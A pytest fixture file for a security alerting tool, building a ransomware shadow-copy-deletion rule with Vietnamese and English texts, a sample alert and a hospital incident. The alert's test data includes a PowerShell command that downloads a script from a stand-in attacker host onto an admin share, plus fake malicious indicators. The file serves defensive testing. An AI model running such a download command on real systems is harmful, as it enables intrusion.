"""An attack to warn of."""

from collections.abc import Iterator

import pytest

from keng.i18n import using
from keng.model.alert import Alert, Sample
from keng.model.detection import RuleInfo
from keng.model.incident import Incident, IncidentGroup
from keng.model.severity import Severity

NOW = 1_790_000_000_000_000
RULE = RuleInfo(
    "r1",
    "Shadow copies deleted",
    Severity.HIGH,
    ("attack.impact", "attack.t1490", "attack.defense-evasion"),
    "Ransomware deletes backups.",
    texts={
        "vi": {
            "title": "Xóa bản sao lưu bóng",
            "description": "Mã độc tống tiền xóa bản sao lưu.",
            "advice": "1. Ngắt máy chủ sao lưu.\n- Thử khôi phục.",
        },
        "en": {"advice": "Disconnect the backup server.\nTry a restore."},
    },
)


@pytest.fixture(autouse=True)
def english() -> Iterator[None]:
    """Texts are compared in English unless a test says otherwise."""
    with using("en"):
        yield


@pytest.fixture
def alert() -> Alert:
    """An alert with matched fields that hold both indicators and what names the victim."""
    matched = {
        "Image": "C:\\Users\\an.nv\\evil-tool.exe",
        "ParentImage": "C:\\Windows\\explorer.exe",
        "NewProcessName": "C:\\Windows\\System32\\cmd.exe",
        "DestinationIp": "185.220.101.4",
        "SourceIp": "10.20.30.40",
        "QueryName": "update.evil-cdn.top",
        "query": "dc01.benhvien.local",
        "CommandLine": 'powershell iwr "http://evil-cdn.top/a.ps1" -OutFile \\\\PC-KETOAN-01\\c$\\x',
        "Hashes": "MD5=" + "0" * 32 + ",SHA256=" + "AB" * 32,
        "cs-uri": "http://intranet.benhvien.gov.vn/x",
    }
    sample = Sample("e1", NOW, matched)
    return Alert(
        1,
        "k",
        RULE,
        Severity.HIGH,
        "bv",
        "bv-win",
        "PC-KETOAN-01",
        NOW,
        NOW,
        NOW,
        NOW,
        users=("an.nv",),
        samples=(sample,),
        priority=70,
    )


@pytest.fixture
def incident() -> Incident:
    """An incident at three agencies."""
    return Incident(
        1,
        "SC-2026-0001",
        "Mã độc tại Bệnh viện tỉnh",
        IncidentGroup.MALWARE,
        Severity.HIGH,
        NOW,
        occurred_us=NOW,
        agencies=("bv", "so", "xa"),
    )
